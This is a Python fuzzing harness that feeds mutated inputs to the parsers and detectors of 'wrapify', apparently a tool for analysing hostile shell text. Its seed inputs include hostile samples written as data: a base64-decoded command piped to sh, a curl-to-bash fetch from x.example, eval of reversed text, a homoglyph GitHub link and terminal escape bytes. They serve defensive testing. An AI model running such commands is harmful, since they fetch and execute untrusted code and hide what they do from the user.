"""Coverage-guided fuzzing of what reads hostile text: `make fuzz SECONDS=600`, for each layer.

A layer is a name and a callable that takes any bytes; it must return, soon, and raise nothing. Without atheris (PyPI,
no wheel for every Python) it says so and mutates at random instead, which finds less. `layers.py NAME…` chooses.
"""

from __future__ import annotations

import os
import random
import subprocess
import sys
import time
from collections.abc import Callable

try:
    import atheris  # type: ignore[import-not-found,import-untyped,unused-ignore]
except ImportError:
    atheris = None

if atheris:
    with atheris.instrument_imports(include=["wrapify"]):
        from wrapify.analysis import characters, fish, hosts, reveal, shell
        from wrapify.analysis.analyse import analyse
else:
    from wrapify.analysis import characters, fish, hosts, reveal, shell
    from wrapify.analysis.analyse import analyse

SLOWEST = 2.0  # seconds of processor time for one input, with the instruments in
SEEDS = (
    b"a b | c && d; $(e `f`) \"g $(h)\" 'i' \\j ${k:-l} $((m+1)) <<N >o 2>&1\np\nN\n",
    b"if a; then b; elif c; then d; fi; for x in y; do z; done; while a; do b; done; case a in b|c) d;; esac",
    b"f() { a; }; function g { b; }; [[ -n a && b =~ (c) ]]; (( a )); a[1]=b c=(d) {e}>f coproc g { h; }",
    b'echo c3VkbyBpZAo= | base64 -d | sh; x=su; $x id; bash <(curl https://x.example/i.sh); eval "$(rev <<< x)"',
    b"ls \xe2\x80\xae \x1b[201~ https://g\xd1\x96thub.com@x.example/ \xf3\xa0\x81\x81 a" + b" " * 120 + b"b",
    b"python3 -c 'import os; os.system(\"sudo id\")'; find . -exec sh -c 'a' \\; ; a=(b c); ${a[@]}; x=${y//a/b}",
    b"() { a } b; repeat 3 c; if [[ d ]] { e } else { f }; =(g) ${(f)h} *(.) foreach i (j) k; end",
)
TOKENS = b"$( $(( ${ ` \" ' \\ ; & | < > << <<- ( ) { } [[ ]] case esac in if fi do done # = [ ] @( $' \n a".split(b" ")


def reading(dialect: str) -> Callable[[bytes], object]:
    return lambda data: shell.read(data.decode("utf-8", "surrogateescape"), dialect=dialect)


def text(data: bytes) -> str:
    return data.decode("utf-8", "surrogateescape")


def analysing(shell: str) -> Callable[[bytes], object]:
    def judge(data: bytes) -> None:
        for finding in analyse(data, shell=shell).findings:
            if not 0 <= finding.start <= finding.end <= len(data):
                raise ValueError(f"{finding.rule} points at {finding.start} to {finding.end} of {len(data)} bytes")
            reveal.excerpt(data, (finding.start, finding.end), width=60)

    return judge


def revealing(data: bytes) -> None:
    if not reveal.reveal(text(data), newlines=False).isprintable():
        raise ValueError("something that is revealed is not printable")


LAYERS: dict[str, Callable[[bytes], object]] = {
    **{f"read-{one}": reading(one) for one in ("bash", "zsh", "sh")},
    "read-fish": lambda data: fish.read(text(data)),
    "characters": lambda data: list(characters.found(text(data))),
    "hosts": lambda data: list(hosts.found(text(data))),
    "reveal": revealing,
    **{f"analyse-{one}": analysing(one) for one in ("bash", "zsh", "fish", "python3")},
}


def try_one(name: str, data: bytes) -> None:
    """Give a layer one input, and raise with it if it took too long."""
    began = time.process_time()
    LAYERS[name](data)
    took = time.process_time() - began
    if took > SLOWEST:
        raise TimeoutError(f"{name} took {took:.1f} s for {len(data)} bytes: {data[:200]!r}")


def mutate(data: bytes, source: random.Random) -> bytes:
    at, to = sorted(source.randrange(len(data) + 1) for _ in range(2))
    piece = source.choice((source.choice(TOKENS), data[at:to], b"", source.choice(SEEDS), source.randbytes(2)))
    return (data[:at] + piece * source.choice((1, 1, 1, 2, 50)) + data[to if source.random() < 0.5 else at :])[:8192]


def at_random(name: str, seconds: float) -> int:
    source, pool, count = random.Random(), list(SEEDS), 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        data = mutate(source.choice(pool), source)
        try_one(name, data)
        count += 1
        pool[source.randrange(len(pool))] = data if source.random() < 0.8 else source.choice(SEEDS)
    return count


def guided(name: str, seconds: int) -> None:
    """Let atheris fuzz one layer. It ends the process."""
    arguments = [sys.argv[0], f"-max_total_time={seconds}", "-max_len=4096", "-timeout=20", "-print_final_stats=1"]
    atheris.Setup(arguments, lambda data: try_one(name, data))
    for seed in SEEDS:
        try_one(name, seed)
    atheris.Fuzz()


def main() -> int:
    seconds = int(os.environ.get("SECONDS_EACH") or 600)
    chosen = sys.argv[1:] or list(LAYERS)
    if len(chosen) == 1 and atheris:
        guided(chosen[0], seconds)
        return 0
    failed = []
    for name in chosen:
        print(f"fuzz: {name} for {seconds} s{'' if atheris else ', at random: atheris is not installed'}", flush=True)
        if not atheris:
            print(f"fuzz: {at_random(name, seconds)} inputs", flush=True)
        elif subprocess.run([sys.executable, "-P", __file__, name], check=False).returncode:
            failed.append(name)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
